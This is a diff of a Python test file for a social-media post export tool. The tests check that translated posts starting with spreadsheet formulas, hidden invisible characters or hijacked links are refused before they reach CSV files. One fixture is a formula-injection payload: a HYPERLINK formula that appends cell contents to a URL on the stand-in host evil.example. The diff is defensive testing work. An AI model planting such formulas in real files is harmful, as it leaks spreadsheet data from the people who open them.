@@ -24,6 +24,9 @@ from outreach.export import (
 )
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Firma") %(url)s %(hashtag)s'
+# A formula with no link, mention or hidden character: the translation checks pass it, and
+# the spreadsheet guard is what keeps it out of a CSV cell.
+FORMULA = "=SUMA(1;1) Firma: %(url)s %(hashtag)s"
 
 
 def _plan(root: Path, channel: str = "x", **kwargs: object) -> list[ScheduledPost]:
@@ -207,21 +210,32 @@ def test_formula_triggers(cell: str, trigger: str | None) -> None:
 
 
 def test_a_formula_after_invisible_characters_is_refused_and_shown(tmp_path: Path) -> None:
-    hidden = "\u00a0\u200b\u2060=1+1 %(url)s %(hashtag)s"
+    hidden = "\u00a0\u3000=1+1 %(url)s %(hashtag)s"
     root = make_campaign(tmp_path, translations={"es": {"share": hidden, "petition": hidden}})
     posts = _plan(root, every="1d", stagger="10m", messages=["share"])
     with pytest.raises(ProblemsFound) as caught:
         export_files(posts, "csv", now=NOW)
     assert [str(p) for p in caught.value.problems] == [
         "share (es, x): the text starts with “=” after leading spaces or invisible characters "
-        "(U+00A0, U+200B, U+2060), which a spreadsheet would run as a formula; outreach does "
+        "(U+00A0, U+3000), which a spreadsheet would run as a formula; outreach does "
         "not alter posts: start it with a word or a letter instead"
     ]
 
 
+def test_a_translation_with_a_hidden_character_is_refused_before_any_format(
+    tmp_path: Path,
+) -> None:
+    hidden = "\u200b\u2060=1+1 %(url)s %(hashtag)s"
+    root = make_campaign(tmp_path, translations={"es": {"share": hidden}})
+    with pytest.raises(ProblemsFound) as caught:
+        _plan(root, every="1d", stagger="10m", messages=["share"])
+    problems = [str(p) for p in caught.value.problems]
+    assert any("invisible: U+200B ZERO WIDTH SPACE is not in the source" in p for p in problems)
+
+
 @pytest.mark.parametrize("fmt", ["csv", "buffer", "hootsuite", "sprout"])
 def test_a_formula_bearing_translation_never_reaches_a_csv_cell(tmp_path: Path, fmt: str) -> None:
-    root = make_campaign(tmp_path, translations={"es": {"share": EVIL}})
+    root = make_campaign(tmp_path, translations={"es": {"share": FORMULA}})
     posts = _plan(root, every="1d", stagger="10m")
     with pytest.raises(ProblemsFound) as caught:
         export_files(posts, fmt, now=NOW)
@@ -230,17 +244,28 @@ def test_a_formula_bearing_translation_never_reaches_a_csv_cell(tmp_path: Path, 
     assert "outreach does not alter posts" in problem
 
 
+def test_a_formula_with_a_hijacked_link_is_refused_before_any_format(tmp_path: Path) -> None:
+    root = make_campaign(tmp_path, translations={"es": {"share": EVIL}})
+    with pytest.raises(ProblemsFound) as caught:
+        _plan(root, every="1d", stagger="10m")
+    problems = [str(p) for p in caught.value.problems]
+    assert any("urls: link https://evil.example/" in p and "link hijack" in p for p in problems)
+    assert problems[-1].endswith("their posts would go out in the fallback language")
+
+
 def test_a_leading_mention_is_refused_not_altered(tmp_path: Path) -> None:
     root = make_campaign(
-        tmp_path, translations={"es": {"share": "@iocmedia, mira: %(url)s %(hashtag)s"}}
+        tmp_path,
+        posts={"share": "@iocmedia, watch: {{ url }} {{ hashtag }}"},
+        translations={"es": {"share": "@iocmedia, mira: %(url)s %(hashtag)s"}},
     )
     posts = _plan(root)
     with pytest.raises(ProblemsFound, match="put a word before the mention"):
         export_files(posts, "csv", now=NOW)
     # Formats that no spreadsheet opens keep the post exactly as written.
     bodies = json.loads(export_files(_plan(root, "mastodon"), "mastodon", now=NOW)[0])
-    assert bodies[3]["status"].startswith("@iocmedia, mira")
-    assert json.loads(export_files(posts, "json", now=NOW)[0])[3]["text"].startswith("@iocmedia")
+    assert bodies[1]["status"].startswith("@iocmedia, mira")
+    assert json.loads(export_files(posts, "json", now=NOW)[0])[1]["text"].startswith("@iocmedia")
 
 
 # -- scheduler profiles ---------------------------------------------------------------------
